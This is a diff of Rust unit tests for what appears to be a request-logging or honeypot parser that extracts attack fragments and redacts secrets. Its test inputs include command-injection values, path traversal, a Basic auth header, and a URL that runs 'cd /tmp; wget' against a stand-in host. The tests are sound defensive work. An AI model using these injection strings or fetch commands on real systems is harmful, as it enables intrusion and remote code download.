@@ -156,6 +156,8 @@ fn of_a_query_what_attacks_carry_is_kept_and_no_secret() {
     assert_eq!(queries("/a?user[password]=a$(hunter2"), "$(");
     assert_eq!(queries("/a?user%5Bpassword%5D=a%60hunter2"), "%60");
     assert_eq!(queries("/a?back=../../b%3ftoken%3Dhunter2"), "../../");
+    // Of a URL with a password in it, too.
+    assert_eq!(queries("/shell?cd+/tmp;wget+http://bob:hunter2@b/x"), "cd+/");
     // A long one from shortly before the mark.
     let long = queries(&format!("/a?f={}../../x", "y".repeat(300)));
     assert_eq!(long, format!("{}../../x", "y".repeat(40)));
@@ -220,6 +222,14 @@ fn attacks_have_room_behind_whatever_else_was_asked() {
     let told = parts(200, all);
     assert_eq!(told.len(), 48 + 1);
     assert_eq!(told[47..], ["/../../15", "f=../../x"]);
+}
+
+#[test]
+fn who_logs_on_has_room_behind_many_pages() {
+    let mut asked: Vec<_> =
+        (0..200).map(|n| format!("GET /{n} HTTP/1.1\r\nUser-Agent: {n}\r\n\r\n")).collect();
+    asked.push("GET / HTTP/1.1\r\nAuthorization: Basic YWRtaW46c2VjcmV0\r\n\r\n".into());
+    assert!(told(&[&asked.concat()]).contains("user.name = admin"));
 }
 
 #[test]
